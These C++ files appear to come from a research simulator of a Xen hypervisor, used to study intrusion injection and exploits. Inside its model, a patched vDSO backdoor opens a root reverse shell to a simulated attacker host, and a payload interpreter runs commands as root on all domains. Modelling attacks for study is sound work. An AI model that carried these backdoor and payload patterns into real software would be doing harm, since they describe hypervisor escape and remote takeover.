namespace ii::sim {

/// What an access wants to do; used for the permission check.
enum class AccessType { Read, Write, Execute };

/// Who performs the access. Supervisor accesses ignore the US bit;
/// user accesses require US to be set along the whole walk.
enum class AccessMode { User, Supervisor };

/// Why a walk failed.
enum class FaultReason {
  NonCanonical,     ///< address bits 63..47 not sign-extended
  NotPresent,       ///< an entry on the walk had P=0
  WriteProtected,   ///< write attempted but some entry had RW=0
  UserProtected,    ///< user access but some entry had US=0
  NoExecute,        ///< instruction fetch from an NX mapping
  ReservedBit,      ///< an entry had reserved bits set
  BadFrame,         ///< an entry pointed outside installed RAM
};

[[nodiscard]] std::string to_string(FaultReason reason);

/// A page fault raised by the walker. `level` is the level whose entry
/// caused the fault (nullopt for NonCanonical).
struct PageFault {
  Vaddr address;
  FaultReason reason;
  std::optional<PtLevel> level;
  AccessType access;

  [[nodiscard]] std::string describe() const;
};

/// One visited entry of a successful or partial walk.
struct WalkStep {
  PtLevel level;
  Mfn table;       ///< frame holding the table
  unsigned index;  ///< slot index used at this level
  Pte entry;       ///< entry value read
};

/// Full result of a page-table walk that reached a leaf.
struct Walk {
  std::vector<WalkStep> steps;  ///< L4 first
  Paddr physical;               ///< translated byte address
  bool writable;                ///< AND of RW along the walk
  bool user;                    ///< AND of US along the walk
  bool executable;              ///< no NX bit along the walk
  std::uint64_t page_bytes;     ///< 4 KiB, 2 MiB or 1 GiB
};

/// Stateless translator over a PhysicalMemory. Holds no TLB: every call
/// re-walks, so corruption of in-memory tables is visible immediately (the
/// behaviour the injection experiments depend on).
class Mmu {
 public:
  explicit Mmu(const PhysicalMemory& mem) : mem_{&mem} {}

  /// Walk `va` starting from the L4 table in frame `root`, without any
  /// permission check (the "audit" walk used by monitors and exploits).
  [[nodiscard]] Expected<Walk, PageFault> walk(Mfn root, Vaddr va) const;

  /// Walk and enforce permissions for `access` performed in `mode`.
  [[nodiscard]] Expected<Walk, PageFault> translate(Mfn root, Vaddr va,
                                                    AccessType access,
                                                    AccessMode mode) const;

  /// Attach (or detach with nullptr) a trace sink. Faulting walks emit one
  /// obs::TraceCategory::MmuWalk event each; successful walks stay
  /// unobserved, keeping the hot path at a single branch.
  void set_trace_sink(obs::TraceSink* sink) { trace_ = sink; }
  [[nodiscard]] obs::TraceSink* trace_sink() const { return trace_; }

 private:
  [[nodiscard]] Expected<Walk, PageFault> walk_impl(Mfn root, Vaddr va) const;
  void trace_fault(const PageFault& fault) const;

  const PhysicalMemory* mem_;
  obs::TraceSink* trace_ = nullptr;
};

}  // namespace ii::sim
