#include "guest/platform.hpp"

namespace ii::guest {

VirtualPlatform::VirtualPlatform(const PlatformConfig& config)
    : config_{config} {
  mem_ = std::make_unique<sim::PhysicalMemory>(config.machine_frames);
  hv::HvConfig hv_cfg{};
  hv_cfg.injector_enabled = config.injector_enabled;
  hv_ = std::make_unique<hv::Hypervisor>(
      *mem_,
      config.policy_override.value_or(
          hv::VersionPolicy::for_version(config.version)),
      hv_cfg);
  if (config.trace_sink != nullptr) hv_->set_trace_sink(config.trace_sink);

  const auto boot = [&](const std::string& name, bool privileged,
                        std::uint64_t pages) {
    const hv::DomainId id = hv_->create_domain(name, privileged, pages);
    auto kernel = std::make_unique<GuestKernel>(*hv_, id, name);
    kernel->set_network(&network_);
    network_.add_host(name);
    kernels_.push_back(std::move(kernel));
  };

  boot("xen-dom0", true, config.dom0_pages);
  for (unsigned g = 0; g < config.n_guests; ++g) {
    boot("guest0" + std::to_string(g + 1), false, config.guest_pages);
  }

  attacker_ = &network_.add_host(config.attacker_host);

  hv_->set_code_executor(
      [this](const hv::ExecutionContext& ctx) { execute_payload(ctx); });
}

std::vector<GuestKernel*> VirtualPlatform::kernels() {
  std::vector<GuestKernel*> out;
  out.reserve(kernels_.size());
  for (auto& k : kernels_) out.push_back(k.get());
  return out;
}

GuestKernel* VirtualPlatform::kernel_of(hv::DomainId id) {
  for (auto& k : kernels_) {
    if (k->id() == id) return k.get();
  }
  return nullptr;
}

void VirtualPlatform::execute_payload(const hv::ExecutionContext& ctx) {
  // The "CPU" landed in attacker-mapped memory with hypervisor privilege:
  // decode the payload structure at the handler's frame and act on it.
  const auto bytes = mem_->frame_bytes(ctx.code_frame);
  const auto payload = Payload::decode({bytes.data() + ctx.offset,
                                        bytes.size() - ctx.offset});
  if (!payload) {
    hv_->panic("FATAL TRAP: invalid opcode at injected handler (vector " +
               std::to_string(ctx.vector) + ")");
    return;
  }
  switch (payload->op) {
    case PayloadOp::RunCommandAllDomains:
      hv_->log("(XEN) [payload] executing with host privilege: " +
               payload->command);
      for (auto& kernel : kernels_) {
        (void)kernel->run_command(payload->command, /*uid=*/0);
      }
      break;
  }
}

void VirtualPlatform::pump() {
  for (auto& kernel : kernels_) kernel->pump_shells();
}

PlatformBaseline VirtualPlatform::baseline() const {
  PlatformBaseline base;
  base.hv = hv_->snapshot();
  base.kernels.reserve(kernels_.size());
  for (const auto& k : kernels_) {
    base.kernels.push_back({k->id(), k->hostname(), k->save_state()});
  }
  return base;
}

std::uint64_t VirtualPlatform::restore(const PlatformBaseline& base) {
  const std::uint64_t copied = hv_->restore_delta(base.hv);
  network_.reset();  // hosts persist, so attacker_ stays valid
  std::vector<std::unique_ptr<GuestKernel>> kernels;
  kernels.reserve(base.kernels.size());
  for (const auto& entry : base.kernels) {
    std::unique_ptr<GuestKernel> kernel;
    for (auto& k : kernels_) {
      if (k != nullptr && k->id() == entry.id) {
        kernel = std::move(k);
        break;
      }
    }
    if (kernel == nullptr) {
      // The cell destroyed this guest; the hv restore rebuilt its domain
      // (and its published pages), so only the kernel object is re-made.
      kernel = std::make_unique<GuestKernel>(GuestKernel::AttachOnly{}, *hv_,
                                             entry.id, entry.hostname);
      kernel->set_network(&network_);
    }
    kernel->restore_state(entry.state);
    kernels.push_back(std::move(kernel));
  }
  kernels_ = std::move(kernels);
  return copied;
}

long VirtualPlatform::destroy_guest(std::size_t index) {
  GuestKernel& victim = guest(index);
  const long rc = dom0().domctl_destroy(victim.id());
  if (rc != hv::kOk) return rc;
  kernels_.erase(kernels_.begin() + static_cast<long>(index) + 1);
  return rc;
}

}  // namespace ii::guest
