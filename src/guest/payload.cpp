#include "guest/payload.hpp"

#include <cstring>
#include <stdexcept>

namespace ii::guest {

namespace {
struct Header {
  std::uint64_t magic;
  std::uint32_t op;
  std::uint32_t command_len;
} __attribute__((packed));
}  // namespace

std::size_t Payload::encode(std::span<std::uint8_t> out) const {
  const Header h{kMagic, static_cast<std::uint32_t>(op),
                 static_cast<std::uint32_t>(command.size())};
  if (out.size() < sizeof h + command.size()) {
    throw std::length_error{"payload does not fit"};
  }
  std::memcpy(out.data(), &h, sizeof h);
  std::memcpy(out.data() + sizeof h, command.data(), command.size());
  return sizeof h + command.size();
}

std::optional<Payload> Payload::decode(std::span<const std::uint8_t> in) {
  Header h{};
  if (in.size() < sizeof h) return std::nullopt;
  std::memcpy(&h, in.data(), sizeof h);
  if (h.magic != kMagic) return std::nullopt;
  if (in.size() < sizeof h + h.command_len) return std::nullopt;
  Payload p{};
  p.op = static_cast<PayloadOp>(h.op);
  p.command.assign(reinterpret_cast<const char*>(in.data() + sizeof h),
                   h.command_len);
  return p;
}

}  // namespace ii::guest
