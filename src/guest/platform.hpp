// VirtualPlatform: one complete experimental testbed.
//
// The paper's §VI setup is: one physical host running a given Xen version,
// dom0 plus unprivileged guests, and an external attacker machine on the
// LAN (for the XSA-148 reverse shell). VirtualPlatform assembles exactly
// that — machine memory, hypervisor, booted guest kernels, the network —
// and wires the hypervisor's code-execution hook to the payload
// interpreter. Every experiment run constructs a fresh platform so that
// campaigns are independent, mirroring the paper's "build and experimental
// environment kept the same" discipline.
#pragma once

#include <cstdint>
#include <memory>
#include <optional>
#include <string>
#include <vector>

#include "guest/kernel.hpp"
#include "guest/payload.hpp"
#include "hv/hypervisor.hpp"
#include "hv/snapshot.hpp"
#include "hv/version.hpp"
#include "net/network.hpp"
#include "obs/trace.hpp"
#include "sim/phys_mem.hpp"

namespace ii::guest {

struct PlatformConfig {
  hv::XenVersion version = hv::kXen46;
  /// When set, overrides the policy derived from `version` — used by the
  /// hardening-ablation experiments to toggle individual checks.
  std::optional<hv::VersionPolicy> policy_override;
  bool injector_enabled = true;  ///< build the patched (injection) hypervisor
  std::uint64_t machine_frames = 32768;  ///< 128 MiB machine
  std::uint64_t dom0_pages = 512;
  std::uint64_t guest_pages = 256;
  unsigned n_guests = 2;                 ///< unprivileged domains
  std::string attacker_host = "attacker";
  /// Optional trace sink, attached to the hypervisor before any domain is
  /// built so boot-time page-type transitions are captured. Not owned; must
  /// outlive the platform.
  obs::TraceSink* trace_sink = nullptr;
};

/// Everything needed to rewind a platform to a captured moment: the full
/// hypervisor snapshot plus each kernel's software state and identity.
/// Captured once per configuration, restored per experiment cell — the
/// campaign's warm-platform reuse (core/campaign.cpp).
struct PlatformBaseline {
  hv::HvSnapshot hv;
  struct KernelEntry {
    hv::DomainId id{};
    std::string hostname;
    GuestKernel::State state;
  };
  std::vector<KernelEntry> kernels;
};

class VirtualPlatform {
 public:
  explicit VirtualPlatform(const PlatformConfig& config = {});

  [[nodiscard]] hv::Hypervisor& hv() { return *hv_; }
  [[nodiscard]] const hv::Hypervisor& hv() const { return *hv_; }
  [[nodiscard]] sim::PhysicalMemory& memory() { return *mem_; }
  [[nodiscard]] net::Network& network() { return network_; }
  [[nodiscard]] const PlatformConfig& config() const { return config_; }

  [[nodiscard]] GuestKernel& dom0() { return *kernels_.front(); }
  /// Unprivileged guest by index (0-based).
  [[nodiscard]] GuestKernel& guest(std::size_t index) {
    return *kernels_.at(index + 1);
  }
  [[nodiscard]] std::vector<GuestKernel*> kernels();
  [[nodiscard]] GuestKernel* kernel_of(hv::DomainId id);

  /// The attacker's machine (outside the virtualized host).
  [[nodiscard]] net::Host& attacker() { return *attacker_; }

  /// Give every guest a chance to serve pending remote-shell commands.
  void pump();

  /// Tear down an unprivileged guest through the management interface
  /// (dom0's XEN_DOMCTL_destroydomain) and drop its kernel object. Returns
  /// the hypercall status; on success later guest(i) indices shift down.
  long destroy_guest(std::size_t index);

  /// Capture the platform's complete state for later rewinds.
  [[nodiscard]] PlatformBaseline baseline() const;

  /// Rewind to `base` (captured from this platform): delta-restores the
  /// hypervisor (copying only frames dirtied since the capture), resets the
  /// network, and rewinds or re-attaches every guest kernel — including
  /// ones dropped by destroy_guest. Returns memory frames copied.
  std::uint64_t restore(const PlatformBaseline& base);

 private:
  void execute_payload(const hv::ExecutionContext& ctx);

  PlatformConfig config_;
  std::unique_ptr<sim::PhysicalMemory> mem_;
  std::unique_ptr<hv::Hypervisor> hv_;
  std::vector<std::unique_ptr<GuestKernel>> kernels_;
  net::Network network_;
  net::Host* attacker_ = nullptr;
};

}  // namespace ii::guest
