#include "guest/shell.hpp"

#include <sstream>
#include <vector>

namespace ii::guest {

namespace {

std::string trim(const std::string& s) {
  const auto b = s.find_first_not_of(" \t");
  if (b == std::string::npos) return "";
  const auto e = s.find_last_not_of(" \t");
  return s.substr(b, e - b + 1);
}

std::vector<std::string> split_on(const std::string& s,
                                  const std::string& sep) {
  std::vector<std::string> out;
  std::size_t pos = 0;
  while (true) {
    const auto next = s.find(sep, pos);
    if (next == std::string::npos) {
      out.push_back(s.substr(pos));
      return out;
    }
    out.push_back(s.substr(pos, next - pos));
    pos = next + sep.size();
  }
}

std::string id_string(int uid) {
  if (uid == 0) return "uid=0(root) gid=0(root) groups=0(root)";
  std::ostringstream os;
  os << "uid=" << uid << "(xen) gid=" << uid << "(xen) groups=" << uid
     << "(xen)";
  return os.str();
}

struct ShellCtx {
  FileSystem* fs;
  const std::string* hostname;
  int uid;
};

std::string eval_simple(const ShellCtx& ctx, const std::string& cmd);

/// Expand $(...) substitutions, innermost-first (single level is all the
/// paper's transcripts need, but nesting works by recursion).
std::string expand(const ShellCtx& ctx, const std::string& text) {
  std::string out;
  std::size_t i = 0;
  while (i < text.size()) {
    if (text[i] == '$' && i + 1 < text.size() && text[i + 1] == '(') {
      int depth = 1;
      std::size_t j = i + 2;
      while (j < text.size() && depth > 0) {
        if (text[j] == '(') ++depth;
        if (text[j] == ')') --depth;
        ++j;
      }
      const std::string inner = text.substr(i + 2, j - i - 3);
      out += eval_simple(ctx, expand(ctx, inner));
      i = j;
    } else {
      out += text[i++];
    }
  }
  return out;
}

std::string strip_quotes(const std::string& s) {
  if (s.size() >= 2 && ((s.front() == '"' && s.back() == '"') ||
                        (s.front() == '\'' && s.back() == '\''))) {
    return s.substr(1, s.size() - 2);
  }
  return s;
}

/// Evaluate a single command with no `&&` and no redirection.
std::string eval_simple(const ShellCtx& ctx, const std::string& raw) {
  const std::string cmd = trim(raw);
  if (cmd.empty()) return "";
  if (cmd == "id") return id_string(ctx.uid);
  if (cmd == "whoami") return ctx.uid == 0 ? "root" : "xen";
  if (cmd == "hostname") return *ctx.hostname;
  if (cmd.rfind("echo", 0) == 0 &&
      (cmd.size() == 4 || cmd[4] == ' ')) {
    return strip_quotes(trim(expand(ctx, cmd.substr(4))));
  }
  if (cmd.rfind("cat ", 0) == 0) {
    const std::string path = trim(cmd.substr(4));
    if (auto content = ctx.fs->read(path, ctx.uid)) return *content;
    return "cat: " + path + ": No such file or directory";
  }
  return "sh: " + cmd + ": command not found";
}

/// Evaluate one pipeline-free command, honouring `> path` redirection.
std::string eval_with_redirect(const ShellCtx& ctx, const std::string& raw) {
  const auto gt = raw.find('>');
  if (gt == std::string::npos) return eval_simple(ctx, raw);
  const std::string cmd = raw.substr(0, gt);
  const std::string path = trim(raw.substr(gt + 1));
  const std::string output = eval_simple(ctx, cmd);
  if (!ctx.fs->write(path, ctx.uid, output)) {
    return "sh: " + path + ": Permission denied";
  }
  return "";
}

}  // namespace

bool FileSystem::root_only(const std::string& path) {
  return path.rfind("/root/", 0) == 0;
}

bool FileSystem::write(const std::string& path, int uid,
                       std::string content) {
  if (root_only(path) && uid != 0) return false;
  files_[path] = File{uid, std::move(content)};
  return true;
}

std::optional<std::string> FileSystem::read(const std::string& path,
                                            int uid) const {
  auto it = files_.find(path);
  if (it == files_.end()) return std::nullopt;
  if (root_only(path) && uid != 0) return std::nullopt;
  return it->second.content;
}

std::string run_shell(FileSystem& fs, const std::string& hostname, int uid,
                      const std::string& line) {
  const ShellCtx ctx{&fs, &hostname, uid};
  std::string out;
  for (const std::string& part : split_on(line, "&&")) {
    const std::string result = eval_with_redirect(ctx, trim(part));
    if (!result.empty()) {
      if (!out.empty()) out += "\n";
      out += result;
    }
  }
  return out;
}

}  // namespace ii::guest
