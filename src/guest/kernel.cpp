#include "guest/kernel.hpp"

#include <cstdio>
#include <cstring>

namespace ii::guest {

namespace {

/// Copy a NUL-terminated string into a fixed-size field.
void put_cstr(std::span<std::uint8_t> field, const std::string& s) {
  const std::size_t n = std::min(field.size() - 1, s.size());
  std::memcpy(field.data(), s.data(), n);
  field[n] = 0;
}

}  // namespace

GuestKernel::GuestKernel(AttachOnly, hv::Hypervisor& hv, hv::DomainId id,
                         std::string hostname)
    : hv_{&hv},
      id_{id},
      hostname_{std::move(hostname)},
      nr_pages_{hv.domain(id).nr_pages()},
      l1_count_{(nr_pages_ + sim::kPtEntries - 1) / sim::kPtEntries} {}

GuestKernel::GuestKernel(hv::Hypervisor& hv, hv::DomainId id,
                         std::string hostname)
    : GuestKernel{AttachOnly{}, hv, id, std::move(hostname)} {
  // Publish start_info: the fingerprintable page the XSA-148 scan hunts.
  std::vector<std::uint8_t> page(sim::kPageSize, 0);
  put_cstr({page.data() + StartInfoLayout::kMagicOffset, 24},
           StartInfoLayout::kMagic);
  const std::uint16_t domid = id_;
  std::memcpy(page.data() + StartInfoLayout::kDomIdOffset, &domid,
              sizeof domid);
  std::memcpy(page.data() + StartInfoLayout::kNrPagesOffset, &nr_pages_,
              sizeof nr_pages_);
  put_cstr({page.data() + StartInfoLayout::kHostnameOffset, 64}, hostname_);
  if (!write_virt(pfn_va(kStartInfoPfn), page)) {
    throw std::runtime_error{"guest boot: cannot write start_info"};
  }

  // Publish the vDSO page.
  std::fill(page.begin(), page.end(), 0);
  std::memcpy(page.data(), VdsoLayout::kElfMagic, 4);
  put_cstr({page.data() + VdsoLayout::kSignatureOffset, 32},
           VdsoLayout::kSignature);
  if (!write_virt(pfn_va(kVdsoPfn), page)) {
    throw std::runtime_error{"guest boot: cannot write vDSO"};
  }
}

// ------------------------------------------------------------- guest memory

void GuestKernel::kernel_oops(sim::Vaddr va, const char* what) {
  ++oops_count_;
  // Mirror the Linux oops line the paper's transcripts show; rate-limit so
  // scanning workloads do not flood the ring.
  if (oops_count_ <= 8) {
    char buf[96];
    std::snprintf(buf, sizeof buf,
                  "BUG: unable to handle page %s at %016llx", what,
                  static_cast<unsigned long long>(va.raw()));
    printk(buf);
  }
}

bool GuestKernel::read_virt(sim::Vaddr va, std::span<std::uint8_t> out) {
  if (hv_->guest_read(id_, va, out).has_value()) return true;
  kernel_oops(va, "request");
  return false;
}

bool GuestKernel::write_virt(sim::Vaddr va,
                             std::span<const std::uint8_t> in) {
  if (hv_->guest_write(id_, va, in).has_value()) return true;
  kernel_oops(va, "write request");
  return false;
}

std::optional<std::uint64_t> GuestKernel::read_u64(sim::Vaddr va) {
  std::uint64_t v = 0;
  if (!read_virt(va, {reinterpret_cast<std::uint8_t*>(&v), sizeof v})) {
    return std::nullopt;
  }
  return v;
}

bool GuestKernel::write_u64(sim::Vaddr va, std::uint64_t value) {
  return write_virt(va,
                    {reinterpret_cast<const std::uint8_t*>(&value),
                     sizeof value});
}

std::optional<sim::Mfn> GuestKernel::pfn_to_mfn(sim::Pfn pfn) const {
  return hv_->domain(id_).p2m(pfn);
}

std::optional<sim::Pfn> GuestKernel::alloc_pfn() {
  if (next_free_.raw() >= first_table_pfn().raw()) return std::nullopt;
  const sim::Pfn out = next_free_;
  next_free_ = sim::Pfn{next_free_.raw() + 1};
  return out;
}

// ------------------------------------------------------ page-table knowledge

sim::Pfn GuestKernel::first_table_pfn() const {
  return sim::Pfn{nr_pages_ - (l1_count_ + 3)};
}

sim::Mfn GuestKernel::l4_mfn() const {
  return *pfn_to_mfn(sim::Pfn{nr_pages_ - 1});
}

sim::Mfn GuestKernel::l2_mfn() const {
  return *pfn_to_mfn(sim::Pfn{nr_pages_ - 3});
}

sim::Mfn GuestKernel::l1_mfn(std::uint64_t index) const {
  return *pfn_to_mfn(sim::Pfn{first_table_pfn().raw() + index});
}

sim::Paddr GuestKernel::l1_slot_paddr(sim::Pfn pfn) const {
  const sim::Mfn table = l1_mfn(pfn.raw() / sim::kPtEntries);
  return sim::mfn_to_paddr(table) + (pfn.raw() % sim::kPtEntries) * 8;
}

// ---------------------------------------------------------------- hypercalls
//
// Every wrapper issues its call through the numbered hypercall table
// (dispatch_hypercall) rather than the Hypervisor methods directly, so an
// attached trace sink sees one HypercallEnter/Exit pair per guest call —
// the same boundary real xentrace instruments.

long GuestKernel::hypercall(unsigned nr, hv::HypercallPayload payload) {
  return hv::dispatch_hypercall(*hv_, id_, nr, payload);
}

long GuestKernel::mmu_update(std::span<const hv::MmuUpdate> reqs) {
  return hypercall(hv::kHcMmuUpdate, hv::MmuUpdateCall{reqs});
}

long GuestKernel::mmu_update_one(sim::Paddr slot, std::uint64_t value) {
  const hv::MmuUpdate req{slot.raw() | hv::kMmuNormalPtUpdate, value};
  return hypercall(hv::kHcMmuUpdate, hv::MmuUpdateCall{{&req, 1}});
}

long GuestKernel::memory_exchange(hv::MemoryExchange& exch) {
  return hypercall(hv::kHcMemoryOp,
                   hv::MemoryOpCall{hv::MemoryOpCmd::Exchange, &exch});
}

long GuestKernel::arbitrary_access(const hv::ArbitraryAccess& req) {
  // The injection hypercall sits in a different vacant slot on every
  // patched release (paper §V-B), so the guest resolves the number from
  // the hypervisor version first.
  return hypercall(hv::arbitrary_access_nr(hv_->version()),
                   hv::ArbitraryAccessCall{req});
}

long GuestKernel::console_write(const std::string& line) {
  return hypercall(hv::kHcConsoleIo, hv::ConsoleIoCall{line});
}

long GuestKernel::software_interrupt(unsigned vector) {
  return hv_->software_interrupt(id_, vector);
}

long GuestKernel::unmap_pfn(sim::Pfn pfn) {
  return mmu_update_one(l1_slot_paddr(pfn), 0);
}

long GuestKernel::map_pfn(sim::Pfn pfn) {
  const auto mfn = pfn_to_mfn(pfn);
  if (!mfn) return hv::kEINVAL;
  return mmu_update_one(
      l1_slot_paddr(pfn),
      sim::Pte::make(*mfn, sim::Pte::kPresent | sim::Pte::kWritable |
                               sim::Pte::kUser)
          .raw());
}

long GuestKernel::decrease_reservation(sim::Pfn pfn) {
  return hypercall(
      hv::kHcMemoryOp,
      hv::MemoryOpCall{hv::MemoryOpCmd::DecreaseReservation, nullptr, pfn});
}

long GuestKernel::populate_physmap(sim::Pfn pfn) {
  return hypercall(
      hv::kHcMemoryOp,
      hv::MemoryOpCall{hv::MemoryOpCmd::PopulatePhysmap, nullptr, pfn});
}

long GuestKernel::domctl_destroy(hv::DomainId victim) {
  return hypercall(hv::kHcDomctl, hv::DomctlCall{victim});
}

long GuestKernel::grant_access(hv::GrantRef ref, hv::DomainId peer,
                               sim::Pfn pfn, bool readonly) {
  hv::GrantTableOpCall call{};
  call.op = hv::GrantTableOpCall::Op::GrantAccess;
  call.ref = ref;
  call.peer = peer;
  call.pfn = pfn;
  call.readonly = readonly;
  return hypercall(hv::kHcGrantTableOp, call);
}

long GuestKernel::grant_end_access(hv::GrantRef ref) {
  hv::GrantTableOpCall call{};
  call.op = hv::GrantTableOpCall::Op::EndAccess;
  call.ref = ref;
  return hypercall(hv::kHcGrantTableOp, call);
}

long GuestKernel::grant_map(hv::DomainId granter, hv::GrantRef ref,
                            hv::GrantHandle* handle, sim::Mfn* frame) {
  hv::GrantTableOpCall call{};
  call.op = hv::GrantTableOpCall::Op::Map;
  call.peer = granter;
  call.ref = ref;
  call.out_handle = handle;
  call.out_frame = frame;
  return hypercall(hv::kHcGrantTableOp, call);
}

long GuestKernel::grant_unmap(hv::GrantHandle handle) {
  hv::GrantTableOpCall call{};
  call.op = hv::GrantTableOpCall::Op::Unmap;
  call.handle = handle;
  return hypercall(hv::kHcGrantTableOp, call);
}

long GuestKernel::grant_set_version(unsigned version) {
  hv::GrantTableOpCall call{};
  call.op = hv::GrantTableOpCall::Op::SetVersion;
  call.version = version;
  return hypercall(hv::kHcGrantTableOp, call);
}

long GuestKernel::evtchn_alloc_unbound(hv::DomainId remote, unsigned* port) {
  hv::EventChannelOpCall call{};
  call.op = hv::EventChannelOpCall::Op::AllocUnbound;
  call.remote = remote;
  call.out_port = port;
  return hypercall(hv::kHcEventChannelOp, call);
}

long GuestKernel::evtchn_bind(hv::DomainId remote, unsigned remote_port,
                              unsigned* local_port) {
  hv::EventChannelOpCall call{};
  call.op = hv::EventChannelOpCall::Op::BindInterdomain;
  call.remote = remote;
  call.port = remote_port;
  call.out_port = local_port;
  return hypercall(hv::kHcEventChannelOp, call);
}

long GuestKernel::evtchn_send(unsigned port) {
  hv::EventChannelOpCall call{};
  call.op = hv::EventChannelOpCall::Op::Send;
  call.port = port;
  return hypercall(hv::kHcEventChannelOp, call);
}

long GuestKernel::evtchn_register_handler(unsigned port) {
  return hv_->events().register_handler(id_, port);
}

long GuestKernel::evtchn_mask(unsigned port, bool masked) {
  return hv_->events().set_mask(id_, port, masked);
}

hv::EventChannelOps::DispatchResult GuestKernel::handle_events() {
  return hv_->events().dispatch(id_);
}

void GuestKernel::printk(const std::string& msg) {
  std::string line = "[";
  line += std::to_string(dmesg_.size());
  line += "] ";
  line += msg;
  dmesg_.push_back(line);
  (void)console_write(line);
}

// ------------------------------------------------------------------ userland

std::string GuestKernel::run_command(const std::string& line, int uid) {
  return run_shell(fs_, hostname_, uid, line);
}

void GuestKernel::invoke_vdso(int uid) {
  (void)uid;  // the backdoor escalates regardless of who entered the vDSO
  // Read the patch area through the MMU, as executing user code would.
  VdsoBackdoor bd{};
  if (!read_virt(pfn_va(kVdsoPfn, VdsoLayout::kBackdoorOffset),
                 {reinterpret_cast<std::uint8_t*>(&bd), sizeof bd})) {
    return;
  }
  if (bd.magic != VdsoLayout::kBackdoorMagic || network_ == nullptr) return;
  bd.host[sizeof bd.host - 1] = 0;
  auto conn = network_->connect(hostname_, bd.host, bd.port);
  if (!conn) return;
  // The implant runs inside the vDSO of a root process: the shell it binds
  // answers with uid 0.
  shells_.push_back(std::make_shared<net::ShellSession>(
      conn, 0, [this](const std::string& cmd, int shell_uid) {
        return run_command(cmd, shell_uid);
      }));
  printk("vdso backdoor: reverse shell to " + std::string{bd.host} + ":" +
         std::to_string(bd.port));
}

void GuestKernel::pump_shells() {
  for (auto& shell : shells_) shell->pump();
}

}  // namespace ii::guest
