// Paravirtualized guest kernel model.
//
// A GuestKernel is the code that runs *inside* a domain: it knows its own
// pseudo-physical layout, performs data accesses through the MMU via the
// hypervisor's guest-access path (so every read/write honours — or trips
// over — the page tables), wraps the hypercall ABI, and hosts the userland
// observables the experiments check: an in-memory filesystem, a tiny shell,
// a fingerprintable start_info page, and a vDSO page whose patching is the
// XSA-148 backdoor vector.
//
// Exploit PoCs and injection scripts are "kernel modules": they run at
// guest-kernel privilege by calling methods of this class.
#pragma once

#include <cstdint>
#include <memory>
#include <optional>
#include <string>
#include <vector>

#include "guest/shell.hpp"
#include "hv/hypercall_table.hpp"
#include "hv/hypervisor.hpp"
#include "net/network.hpp"

namespace ii::guest {

/// Fingerprint structures. Offsets are part of the "ABI" the XSA-148 scan
/// relies on, mirroring how the real PoC fingerprints dom0 pages.
struct StartInfoLayout {
  static constexpr const char* kMagic = "xen-3.0-x86_64";
  static constexpr std::uint64_t kMagicOffset = 0x00;
  static constexpr std::uint64_t kDomIdOffset = 0x20;
  static constexpr std::uint64_t kNrPagesOffset = 0x28;
  static constexpr std::uint64_t kHostnameOffset = 0x40;
};

struct VdsoLayout {
  static constexpr std::uint8_t kElfMagic[4] = {0x7F, 'E', 'L', 'F'};
  static constexpr const char* kSignature = "vdso:gettimeofday";
  static constexpr std::uint64_t kSignatureOffset = 0x10;
  /// Backdoor patch area offset within the vDSO page.
  static constexpr std::uint64_t kBackdoorOffset = 0x800;
  static constexpr std::uint64_t kBackdoorMagic = 0xBADC0DEBACD00E5FULL;
};

/// Wire format of the implant the XSA-148 attack patches into the vDSO.
struct VdsoBackdoor {
  std::uint64_t magic = 0;
  char host[64] = {};
  std::uint16_t port = 0;
} __attribute__((packed));

/// Well-known guest pseudo-physical pages (defined by the domain-builder
/// contract in hv/layout.hpp).
inline constexpr sim::Pfn kStartInfoPfn = hv::kStartInfoPfn;
inline constexpr sim::Pfn kVdsoPfn = hv::kVdsoPfn;
inline constexpr sim::Pfn kSharedInfoPfn = hv::kSharedInfoPfn;
inline constexpr sim::Pfn kGrantStatusPfn = hv::kGrantStatusPfn;
inline constexpr sim::Pfn kFirstFreePfn = hv::kFirstFreePfn;

class GuestKernel {
 public:
  /// Attach a kernel to an already-built domain and publish the start_info
  /// and vDSO fingerprint pages.
  GuestKernel(hv::Hypervisor& hv, hv::DomainId id, std::string hostname);

  /// Tag: re-attach to a domain whose memory a snapshot restore already
  /// rebuilt — the fingerprint pages are in the restored image, so
  /// publishing them again would only dirty frames.
  struct AttachOnly {};
  GuestKernel(AttachOnly, hv::Hypervisor& hv, hv::DomainId id,
              std::string hostname);

  /// The kernel's software state (everything outside hypervisor-managed
  /// memory), captured for warm-platform reuse (guest/platform.cpp).
  struct State {
    std::uint64_t oops_count = 0;
    sim::Pfn next_free{};
    FileSystem fs;
    std::vector<std::string> dmesg;
  };
  [[nodiscard]] State save_state() const {
    return State{oops_count_, next_free_, fs_, dmesg_};
  }
  /// Rewind to a saved state. Live shell sessions are dropped — their
  /// connections live in the network, which is reset alongside.
  void restore_state(const State& state) {
    oops_count_ = state.oops_count;
    next_free_ = state.next_free;
    fs_ = state.fs;
    dmesg_ = state.dmesg;
    shells_.clear();
  }

  [[nodiscard]] hv::DomainId id() const { return id_; }
  [[nodiscard]] const std::string& hostname() const { return hostname_; }
  [[nodiscard]] hv::Hypervisor& hv() { return *hv_; }
  [[nodiscard]] FileSystem& fs() { return fs_; }
  [[nodiscard]] const FileSystem& fs() const { return fs_; }

  // ---------------------------------------------------------- guest memory
  /// Guest-virtual data access through the MMU (faults are delivered to the
  /// hypervisor exactly like a hardware access would).
  [[nodiscard]] bool read_virt(sim::Vaddr va, std::span<std::uint8_t> out);
  [[nodiscard]] bool write_virt(sim::Vaddr va,
                                std::span<const std::uint8_t> in);
  [[nodiscard]] std::optional<std::uint64_t> read_u64(sim::Vaddr va);
  [[nodiscard]] bool write_u64(sim::Vaddr va, std::uint64_t value);

  /// Kernel directmap address of a pseudo-physical page.
  [[nodiscard]] sim::Vaddr pfn_va(sim::Pfn pfn,
                                  std::uint64_t offset = 0) const {
    return hv::guest_directmap_vaddr(pfn, offset);
  }
  [[nodiscard]] std::optional<sim::Mfn> pfn_to_mfn(sim::Pfn pfn) const;

  /// Allocate a free data page from the boot pool (never reuses).
  [[nodiscard]] std::optional<sim::Pfn> alloc_pfn();

  // -------------------------------------------------- page-table knowledge
  /// The kernel knows where the domain builder put its page tables.
  [[nodiscard]] std::uint64_t nr_pages() const { return nr_pages_; }
  [[nodiscard]] sim::Pfn first_table_pfn() const;
  [[nodiscard]] std::uint64_t l1_table_count() const { return l1_count_; }
  [[nodiscard]] sim::Mfn l4_mfn() const;
  [[nodiscard]] sim::Mfn l2_mfn() const;
  [[nodiscard]] sim::Mfn l1_mfn(std::uint64_t index) const;
  /// Machine address of the L1 slot that maps `pfn`'s directmap address.
  [[nodiscard]] sim::Paddr l1_slot_paddr(sim::Pfn pfn) const;

